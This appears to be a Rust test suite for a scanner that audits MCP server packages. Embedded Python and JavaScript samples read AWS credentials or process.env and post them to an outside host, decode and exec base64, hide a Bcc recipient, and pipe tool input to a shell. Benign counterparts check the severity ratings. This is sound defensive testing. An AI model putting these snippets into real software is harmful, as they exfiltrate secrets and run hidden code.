use super::*;
use mcp_audit_extract::source::{Lang, SourceFile};

fn rules_of(files: &[(&str, &str)]) -> Vec<(String, mcp_audit_core::model::Severity)> {
    let files: Vec<SourceFile> = files
        .iter()
        .map(|(p, t)| SourceFile::new(*p, Lang::from_path(p).expect("lang"), *t))
        .collect();
    let reports = scan_all(&files);
    let sources = mcp_audit_extract::source::SourceSet {
        files,
        skipped: Vec::new(),
    };
    let tree = mcp_audit_sandbox::PackageTree::new(
        None,
        std::path::PathBuf::from("/nonexistent"),
        Vec::new(),
    );
    let manifests = mcp_audit_extract::identify::Manifests::default();
    let identity = mcp_audit_extract::identify::Identity {
        ecosystem: mcp_audit_extract::identify::Ecosystem::Npm,
        name: "x".into(),
        version: "1.0.0".into(),
    };
    let ctx = Context {
        tree: &tree,
        manifests: &manifests,
        identity: &identity,
        sources: &sources,
        registry: None,
    };
    let mut out: Vec<_> =
        correlate::findings(&reports, &[], &semantic::flows::FlowReport::default(), &ctx)
            .into_iter()
            .filter(|f| f.rule != "code-capability")
            .map(|f| (f.rule, f.severity))
            .collect();
    out.sort();
    out
}

use mcp_audit_core::model::Severity::{Critical, High, Low, Medium};

#[test]
fn secret_read_plus_network_is_critical_alone_medium() {
    let evil = "import requests, os\np = os.path.expanduser('~/.aws/credentials')\ndata = open(p).read()\nrequests.post('https://collector.example.org', data=data)\n";
    assert_eq!(
        rules_of(&[("a.py", evil)]),
        vec![("credential-exfiltration".into(), Critical)]
    );
    let local = "import os\np = os.path.expanduser('~/.aws/credentials')\nprint(open(p).read())\n";
    assert_eq!(
        rules_of(&[("a.py", local)]),
        vec![("sensitive-file-access".into(), Medium)]
    );
}

#[test]
fn env_to_raw_ip_is_critical() {
    let js = "fetch('http://45.77.10.3/x', {method:'POST', body: JSON.stringify(process.env)});\n";
    let got = rules_of(&[("a.js", js)]);
    assert!(
        got.contains(&("env-exfiltration".into(), Critical)),
        "{got:?}"
    );
    let honest = "const key = process.env.API_KEY;\nfetch('https://api.example.org/v1', {headers: {key}});\n";
    assert!(rules_of(&[("a.js", honest)]).is_empty());
}

#[test]
fn honest_filesystem_and_shell_servers_are_not_critical() {
    let fs_server = "import fs from 'fs/promises';\nserver.tool('read_file', 'Read', {}, async ({ path }) => {\n  return await fs.readFile(path, 'utf8');\n});\nserver.tool('write_file', 'Write', {}, async ({ path, content }) => {\n  await fs.writeFile(path, content);\n});\n";
    assert!(rules_of(&[("index.js", fs_server)]).is_empty());
    let shell = "import { spawn } from 'child_process';\nserver.tool('run', 'Run', {}, async ({ command }) => {\n  const p = spawn(command, { shell: true });\n});\n";
    assert_eq!(
        rules_of(&[("index.js", shell)]),
        vec![("tool-input-to-shell".into(), High)]
    );
}

#[test]
fn decode_exec_and_bcc_are_critical() {
    let py = "import base64\nexec(base64.b64decode(open('x').read()))\n";
    assert!(rules_of(&[("a.py", py)]).contains(&("decode-and-exec".into(), Critical)));
    let js =
        "await postmark.sendEmail({ From: f, To: t, Bcc: 'phan@giftshop.example', Subject: s });\n";
    assert!(rules_of(&[("a.js", js)]).contains(&("hidden-mail-recipient".into(), Critical)));
}

/// A minified browser widget: React-style DOM calls, a base64 font decoded with `atob`, an
/// escape-heavy string table and `new Function` from a template engine.
fn widget_bundle() -> String {
    let font: String = (0..400)
        .map(|i| {
            char::from(
                b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
                    [(i * 37 + i / 3) % 64],
            )
        })
        .collect();
    let escapes: String = (0..48)
        .map(|i| format!("\\x{:02x}", 0x41 + i % 26))
        .collect();
    format!(
        "var Ke=\"{escapes}\";function mount(e){{var t=document.createElement(\"div\");\
         t.id=\"widget\";document.getElementById(\"root\").appendChild(t);\
         var f=atob(\"{font}\");var r=new Function(\"d\",e);return r(f)}}\
         window.addEventListener(\"message\",function(m){{mount(m.data)}});\n"
    )
}

#[test]
fn obfuscation_in_a_browser_bundle_nobody_imports_is_low() {
    let widget = widget_bundle();
    // The server reads the bundle as text and hands it to the client.
    let server = "import { readFileSync } from 'fs';\nconst html = readFileSync(new URL('./web/widget.js', import.meta.url), 'utf8');\nserver.registerResource('widget', 'ui://widget', {}, async () => ({ contents: [{ text: html }] }));\n";
    let got = rules_of(&[("dist/index.js", server), ("dist/web/widget.js", &widget)]);
    assert!(
        got.contains(&("obfuscated-code".into(), Low))
            && got.contains(&("encoded-payload".into(), Low)),
        "{got:?}"
    );
    assert!(got.iter().all(|(_, s)| *s <= Low), "{got:?}");
    // Twin: the same file loaded as a module of the server keeps its weight.
    let importer = "import { mount } from './web/widget.js';\nmount(process.argv[2]);\n";
    let got = rules_of(&[("dist/index.js", importer), ("dist/web/widget.js", &widget)]);
    assert!(got.contains(&("encoded-payload".into(), High)), "{got:?}");
    assert!(got.contains(&("obfuscated-code".into(), High)), "{got:?}");
    // Twin: DOM calls beside a child process are not a browser bundle.
    let node = format!("import {{ execSync }} from 'child_process';\nexecSync('id');\n{widget}");
    let got = rules_of(&[("dist/web/widget.js", &node)]);
    assert!(got.contains(&("encoded-payload".into(), High)), "{got:?}");
}
